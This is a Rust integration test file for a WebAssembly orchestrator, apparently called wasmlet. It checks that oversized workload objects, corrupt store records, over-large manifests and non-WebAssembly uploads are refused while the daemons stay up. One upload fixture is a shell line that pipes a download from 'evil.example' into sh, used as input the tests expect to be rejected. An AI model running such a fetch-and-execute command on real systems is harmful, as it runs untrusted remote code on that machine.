//! The control plane under attack by its own inputs: objects that ask for too
//! much (over the API, written straight into the master's store, in an agent's
//! manifests dir), and uploads that are not WebAssembly. Every daemon stays
//! up, says what is wrong and where, and keeps serving everything else.

use std::time::Duration;

use reqwest::Method;
use serde_json::{Value, json};
use wasmlet_api::{Phase, Workload};
use wasmlet_master::store::{Expect, Kind, Op, RedbStore, Store, Write};
use wasmlet_tests::{Agent, Master, bin, place_file, sha256, wait_for, workload_manifest};

const WAIT: Duration = Duration::from_secs(60);

fn sensor(name: &str, extra: &str) -> Value {
    let text = workload_manifest(name, "sensor", "daemon", &format!("  args: [\"--interval\", \"200\"]\n{extra}"));
    let workload: Workload = wasmlet_api::from_yaml(&text).expect("manifest");
    serde_json::to_value(workload).expect("json")
}

fn post(master: &Master, body: &Value) -> (u16, Value) {
    let (status, text) = master.send_json(Method::POST, "/workloads", body).expect("POST /workloads");
    (status, serde_json::from_str(&text).unwrap_or(Value::Null))
}

fn join(master: &Master, name: &str) -> Agent {
    Agent::start(&["--master", &master.url, "--join-token", &master.join_token, "--name", name, "--sample-interval", "500ms"])
        .expect("agent starts")
}

fn running(master: &Master, workload: &str) -> usize {
    master.instances().iter().filter(|i| i.spec.workload == workload && i.status.phase == Phase::Running).count()
}

fn metric(master: &Master, series: &str) -> Option<f64> {
    let text = master.client().get(format!("{}/metrics", master.url)).send().ok()?.text().ok()?;
    text.lines().find_map(|l| l.strip_prefix(series)?.strip_prefix(' ')?.trim().parse().ok())
}

#[test]
fn an_object_asking_for_too_much_is_refused_naming_the_field_and_the_limit() {
    let master = Master::start(&["--max-replicas", "50"]).expect("master starts");
    master.upload_example("sensor").expect("upload");
    let with = |change: &dyn Fn(&mut Value)| {
        let mut body = sensor("greedy", "");
        change(&mut body);
        body
    };
    let long = "x".repeat(10_000);
    let cases: Vec<(&str, Value, [&str; 2])> = vec![
        ("the issue's replicas", with(&|w| w["spec"]["replicas"] = json!(4294967295u32)), ["spec.replicas: 4294967295", "100000"]),
        ("above --max-replicas", with(&|w| w["spec"]["replicas"] = json!(51)), ["spec.replicas: 51", "50 (--max-replicas)"]),
        (
            "labels",
            with(&|w| w["metadata"]["labels"] = json!((0..65).map(|i| (format!("k{i}"), json!("v"))).collect::<serde_json::Map<_, _>>())),
            ["metadata.labels", "64"],
        ),
        (
            "annotations",
            with(&|w| w["metadata"]["annotations"] = json!({"note": "a".repeat(100 << 10)})),
            ["metadata.annotations", "65536"],
        ),
        ("a long name", with(&|w| w["metadata"]["name"] = json!(long)), ["metadata.name", "(10000 bytes)"]),
        ("args", with(&|w| w["spec"]["args"] = json!(vec!["a"; 2000])), ["spec.args", "1024"]),
        ("env", with(&|w| w["spec"]["env"] = json!({"BIG": "e".repeat(200 << 10)})), ["spec.env", "131072"]),
        (
            "dirs",
            with(&|w| w["spec"]["dirs"] = json!((0..65).map(|i| json!({"path": format!("/d{i}")})).collect::<Vec<_>>())),
            ["spec.dirs", "64"],
        ),
        ("tolerations", with(&|w| w["spec"]["tolerations"] = json!(vec![json!({"operator": "Exists"}); 65])), ["spec.tolerations", "64"]),
        (
            "node selector",
            with(&|w| w["spec"]["nodeSelector"] = json!((0..65).map(|i| (format!("k{i}"), json!("v"))).collect::<serde_json::Map<_, _>>())),
            ["spec.nodeSelector", "64"],
        ),
        (
            "a year-long deadline",
            with(&|w| w["spec"]["disconnect"] = json!({"stopOnAgentAfter": "10000h"})),
            ["spec.disconnect.stopOnAgentAfter", "8784h"],
        ),
        (
            "CPU time",
            with(&|w| w["spec"]["resources"] = json!({"limits": {"cpuTime": "9999999h"}})),
            ["spec.resources.limits.cpuTime", "limit"],
        ),
        (
            "outbound hosts",
            with(&|w| w["spec"]["allowedOutboundHosts"] = json!(vec!["a.example"; 300])),
            ["spec.allowedOutboundHosts", "256"],
        ),
        ("module source", with(&|w| w["spec"]["module"]["source"] = json!("m".repeat(5000))), ["spec.module.source", "4096"]),
    ];
    for (what, body, expected) in cases {
        let (status, err) = post(&master, &body);
        assert_eq!(status, 400, "{what}: {err}");
        let message = err["message"].as_str().unwrap_or_default();
        for needle in expected {
            assert!(message.contains(needle), "{what}: `{needle}` in {message}");
        }
        assert!(message.len() < 4096, "{what}: the answer stays short ({} bytes)", message.len());
    }
    // A service's route is bounded too.
    let mut service = with(&|w| w["spec"]["type"] = json!("service"));
    service["spec"]["route"] = json!({"pathPrefix": format!("/{}", "p".repeat(2000))});
    let (status, err) = post(&master, &service);
    assert!(status == 400 && err["message"].as_str().unwrap_or_default().contains("spec.route.pathPrefix"), "{status} {err}");
    // A body larger than the API reads at all.
    let huge = master.client().post(master.api("/workloads")).body(vec![b' '; 3 << 20]).send().expect("answer");
    assert_eq!(huge.status(), 413);

    let list: Value = master.get_json("/workloads").expect("list");
    assert_eq!(list["items"], json!([]), "nothing was created");
    // Within the limits, the same workload is fine.
    assert_eq!(post(&master, &with(&|w| w["spec"]["replicas"] = json!(50))).0, 201);
}

/// Writes `ops` into the store of a stopped master, with the master's own store code.
pub fn write_into_store(master: &Master, ops: Vec<Op>) {
    let store = RedbStore::open(master.data_dir.path()).expect("the store opens");
    let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().expect("a runtime");
    runtime.block_on(store.commit(Write { ops, ..Default::default() })).expect("commit");
}

#[test]
fn a_stored_object_the_master_cannot_act_on_is_marked_and_the_rest_runs() {
    let mut master = Master::start(&[]).expect("master starts");
    let _agent = join(&master, "edge");
    master.upload_example("sensor").expect("upload");
    assert_eq!(post(&master, &sensor("good", "  replicas: 1\n")).0, 201);
    wait_for(WAIT, "good Running", || (running(&master, "good") == 1).then_some(()));

    // What a master before the limits accepted, and records no master can read.
    master.stop().expect("master stops");
    let record = |name: &str, change: &dyn Fn(&mut Value)| {
        let mut body = sensor(name, "");
        change(&mut body);
        Op::Put { kind: Kind::Workload, name: name.into(), value: serde_json::to_vec(&body).expect("json"), expect: Expect::Any }
    };
    write_into_store(
        &master,
        vec![
            record("huge", &|w| w["spec"]["replicas"] = json!(4294967295u32)),
            record("future", &|w| w["spec"]["fancyNewField"] = json!(true)),
            Op::Put {
                kind: Kind::Workload,
                name: "garbled".into(),
                value: b"{\"apiVersion\": \"wasmlet.io/v1\", \"metad".to_vec(),
                expect: Expect::Any,
            },
            Op::Put { kind: Kind::Instance, name: "ghost-zzzzz".into(), value: b"\x00\x01 not json".to_vec(), expect: Expect::Any },
            Op::Put { kind: Kind::Token, name: "deadbeef".into(), value: b"[]".to_vec(), expect: Expect::Any },
        ],
    );
    master.restart().expect("the master starts with them in its store");

    let workload = |name: &str| master.get_json::<Value>(&format!("/workloads/{name}")).expect("workload");
    for (name, needle) in [("huge", "spec.replicas: 4294967295"), ("future", "fancyNewField"), ("garbled", "cannot be decoded")] {
        let w = workload(name);
        let condition = &w["status"]["conditions"][0];
        assert_eq!(condition["type"], "Invalid", "{name}: {w}");
        assert_eq!(condition["status"], "True", "{name}: {w}");
        assert!(condition["message"].as_str().unwrap_or_default().contains(needle), "{name}: {w}");
    }
    let events = master.events();
    for name in ["huge", "future", "garbled", "ghost-zzzzz", "deadbeef"] {
        assert!(
            events
                .iter()
                .any(|e| e.reason == "InvalidStoredObject" && e.involved_object.name == name && e.message.contains("not acted on")),
            "a Warning event for {name}: {events:?}"
        );
    }
    assert!(master.logs.lock().expect("logs").iter().any(|l| l.contains("InvalidStoredObject") && l.contains("huge")), "logged");
    assert_eq!(metric(&master, "wasmlet_master_stored_objects_not_acted_on"), Some(5.0));
    // `describe` says so.
    let config = master.cli_config(master.data_dir.path());
    let out = std::process::Command::new(bin("wasmlet"))
        .args(["describe", "workload", "huge"])
        .env("WASMLETCONFIG", config)
        .env("NO_COLOR", "1")
        .output()
        .expect("wasmlet runs");
    let page = String::from_utf8_lossy(&out.stdout);
    assert!(out.status.success() && page.contains("Conditions") && page.contains("Invalid=True"), "{page}");

    // The rest runs: no instance was made for the huge one, the good one runs, new work is placed.
    assert!(master.instances().iter().all(|i| i.spec.workload != "huge"));
    assert_eq!(running(&master, "good"), 1);
    assert_eq!(post(&master, &sensor("more", "")).0, 201);
    wait_for(WAIT, "more Running", || (running(&master, "more") == 1).then_some(()));

    // Fixed by replacing it, or deleting it; the master restarts as often as it likes.
    let fixed = sensor("garbled", "");
    let (status, body) = master.send_json(Method::PUT, "/workloads/garbled", &fixed).expect("PUT");
    assert_eq!(status, 200, "{body}");
    assert_eq!(workload("garbled")["status"]["conditions"], Value::Null, "no longer Invalid");
    let deleted = master.client().delete(master.api("/workloads/huge")).send().expect("DELETE");
    assert_eq!(deleted.status(), 200);
    master.restart().expect("the master starts again");
    assert_eq!(metric(&master, "wasmlet_master_stored_objects_not_acted_on"), Some(3.0), "future, ghost, the token");
    wait_for(WAIT, "garbled Running", || (running(&master, "garbled") == 1).then_some(()));
    assert_eq!(running(&master, "good"), 1);
}

/// A node offers no more instances than its pooling allocator holds: a pool
/// smaller than `--max-instances` is the node's capacity (else the scheduler
/// would place instances the pool cannot hold), and a manifest past it is
/// refused naming `--pool-instances`. On demand (`--pool-instances 0`), `--max-instances` decides.
#[test]
fn a_node_offers_no_more_instances_than_its_pool_holds() {
    let dir = tempfile::tempdir().expect("dir");
    let manifests = dir.path().to_str().expect("utf-8");
    // The harness starts agents with a pool of 64.
    let pooled = Agent::start(&["--manifests-dir", manifests, "--manifests-poll-interval", "100ms"]).expect("agent");
    let capacity = |agent: &Agent| {
        let node: Value = agent.get_json("/status").expect("status");
        (node["status"]["capacity"]["instances"].as_u64(), node["status"]["allocatable"]["instances"].as_u64())
    };
    assert_eq!(capacity(&pooled), (Some(64), Some(64)));
    place_file(dir.path(), "big.yaml", &workload_manifest("big", "sensor", "daemon", "  replicas: 65\n"));
    let refused = wait_for(WAIT, "ManifestInvalid for big.yaml", || {
        let events: Vec<Value> = pooled.get_json("/events").ok()?;
        events.into_iter().find(|e| e["reason"] == "ManifestInvalid" && e["involvedObject"]["name"] == "big.yaml")
    });
    let message = refused["message"].as_str().unwrap_or_default();
    assert!(message.contains("--pool-instances 64"), "{message}");
    let on_demand = Agent::start(&["--pool-instances", "0", "--max-instances", "300"]).expect("agent");
    assert_eq!(capacity(&on_demand), (Some(300), Some(300)));
}

#[test]
fn an_agent_refuses_a_manifest_asking_for_too_much_and_stays_up() {
    let dir = tempfile::tempdir().expect("dir");
    let manifests = dir.path().to_str().expect("utf-8");
    let agent =
        Agent::start(&["--manifests-dir", manifests, "--manifests-poll-interval", "100ms", "--max-instances", "20"]).expect("agent");
    place_file(dir.path(), "huge.yaml", &workload_manifest("huge", "sensor", "daemon", "  replicas: 4294967295\n"));
    place_file(dir.path(), "many.yaml", &workload_manifest("many", "sensor", "daemon", "  replicas: 15\n"));
    place_file(dir.path(), "more.yaml", &workload_manifest("more", "sensor", "daemon", "  replicas: 6\n"));
    place_file(dir.path(), "args.yaml", &workload_manifest("args", "sensor", "daemon", &format!("  args: {:?}\n", vec!["a"; 5000])));
    let invalid = |file: &str| {
        wait_for(WAIT, &format!("ManifestInvalid for {file}"), || {
            let events: Vec<Value> = agent.get_json("/events").ok()?;
            events.into_iter().find(|e| e["reason"] == "ManifestInvalid" && e["involvedObject"]["name"] == file)
        })["message"]
            .as_str()
            .unwrap_or_default()
            .to_string()
    };
    let huge = invalid("huge.yaml");
    assert!(huge.contains("spec.replicas: 4294967295") && huge.contains("100000"), "{huge}");
    let args = invalid("args.yaml");
    assert!(args.contains("spec.args") && args.contains("1024"), "{args}");
    // Files are read in name order: `many` fits (15 of 20), `more` would take it to 21.
    let more = invalid("more.yaml");
    assert!(more.contains("spec.replicas") && more.contains("--max-instances 20"), "{more}");
    wait_for(WAIT, "15 replicas of many Running", || {
        let instances: Vec<Value> = agent.get_json("/instances").ok()?;
        (instances.iter().filter(|i| i["spec"]["workload"] == "many" && i["status"]["phase"] == "Running").count() == 15).then_some(())
    });
    assert_eq!(agent.get_text("/healthz").expect("healthz").trim(), "ok");
    let rss = wasmlet_tests::rss_bytes(agent.pid()).unwrap_or(0);
    assert!(rss < 1 << 30, "the agent holds {rss} bytes");
}

/// A valid-looking core module whose one function body does not type-check.
fn bad_body() -> Vec<u8> {
    let mut bytes = b"\0asm\x01\0\0\0".to_vec();
    bytes.extend_from_slice(&[0x01, 0x04, 0x01, 0x60, 0x00, 0x00]); // type section: () -> ()
    bytes.extend_from_slice(&[0x03, 0x02, 0x01, 0x00]); // function section: one function of type 0
    bytes.extend_from_slice(&[0x0a, 0x05, 0x01, 0x03, 0x00, 0x6a, 0x0b]); // code: i32.add on an empty stack
    bytes
}

#[test]
fn only_webassembly_is_uploaded_and_only_uploaded_modules_are_used() {
    let master = Master::start(&[]).expect("master starts");
    let (path, _) = wasmlet_tests::example("sensor");
    let sensor_bytes = std::fs::read(path).expect("sensor");
    let (component, _) = wasmlet_tests::example("hello-component");
    let component_bytes = std::fs::read(component).expect("component");
    let mut component_garbage = component_bytes[..8].to_vec();
    component_garbage.extend_from_slice(&[0xff; 64]);
    let mut huge_section = b"\0asm\x01\0\0\0".to_vec();
    huge_section.extend_from_slice(&[0x01, 0xff, 0xff, 0xff, 0xff, 0x0f, 0x01, 0x60]);
    let cases: Vec<(&str, Vec<u8>, &str)> = vec![
        ("a shell script", b"#!/bin/sh\ncurl evil.example | sh\n".to_vec(), "lack the `\\0asm` magic"),
        ("WebAssembly text", b"(module (func))".to_vec(), "WebAssembly text"),
        ("half a module", sensor_bytes[..sensor_bytes.len() / 2].to_vec(), "core module is invalid"),
        ("a component header with garbage", component_garbage, "component is invalid"),
        ("a function body that does not type-check", bad_body(), "type mismatch"),
        ("a section that declares 4 GiB", huge_section, "core module is invalid"),
        ("an unknown layer", b"\0asm\x0d\0\x02\0".to_vec(), "neither a core module"),
    ];
    for (what, bytes, expected) in cases {
        let digest = sha256(&bytes);
        let response = master.client().put(master.api(&format!("/modules/{digest}"))).body(bytes).send().expect("upload");
        assert_eq!(response.status(), 400, "{what}");
        let err: Value = response.json().expect("json");
        let message = err["message"].as_str().unwrap_or_default();
        assert!(message.contains("not valid WebAssembly") && message.contains(expected), "{what}: {message}");
        let fetched = master.client().get(master.api(&format!("/modules/{digest}"))).send().expect("GET");
        assert_eq!(fetched.status(), 404, "{what}: not kept");
        let mut workload = sensor("uses-it", "");
        workload["spec"]["module"]["digest"] = json!(digest);
        let (status, err) = post(&master, &workload);
        assert!(status == 400 && err["message"].as_str().unwrap_or_default().contains("not uploaded"), "{what}: {status} {err}");
    }
    // Real modules and components go in.
    master.upload_example("sensor").expect("a core module uploads");
    master.upload_example("hello-component").expect("a component uploads");
    // A file kept from before uploads were checked is refused when a workload names it.
    let script = b"#!/bin/sh\necho kept from an older master\n";
    let digest = sha256(script);
    std::fs::write(master.data_dir.path().join("modules").join(digest.trim_start_matches("sha256:")), script).expect("write");
    let mut workload = sensor("old-upload", "");
    workload["spec"]["module"]["digest"] = json!(digest);
    let (status, err) = post(&master, &workload);
    let message = err["message"].as_str().unwrap_or_default();
    assert!(status == 400 && message.contains("spec.module.digest") && message.contains("not valid WebAssembly"), "{status} {err}");
}
